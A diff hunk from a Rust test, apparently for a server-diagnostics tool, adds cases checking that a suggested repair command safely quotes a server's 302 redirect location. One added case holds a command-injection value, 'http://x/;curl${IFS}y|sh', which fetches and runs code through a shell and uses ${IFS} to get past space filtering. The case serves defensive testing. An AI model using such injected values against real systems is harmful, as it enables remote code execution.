@@ -203,6 +203,13 @@ fn answers_of_a_server_lead_to_its_repair() {
         (format!("403 x\r\n{APACHE}"), HTML, "itself answers 403", "a2enmod cgid"),
         ("404 x\r\nServer: lighttpd".into(), HTML, "itself answers 404", "lighty-enable-mod"),
         ("302 x\r\nLocation: https://h/".into(), "", "answers 302", "comet.cgi doctor https://h/"),
+        (
+            "302 x\r\nLocation: http://x/;curl${IFS}y|sh".into(),
+            "",
+            "answers 302",
+            "comet.cgi doctor 'http://x/;curl${IFS}y|sh'",
+        ),
+        ("302 x\r\nLocation: x;y".into(), "", "answers 302", "give the URL to which"),
         ("200 OK".into(), HTML, "another program or page", "a2enconf novcomet"),
         ("200 OK".into(), "{\"version\":1}", "another program or page", "a2enconf novcomet"),
     ] {
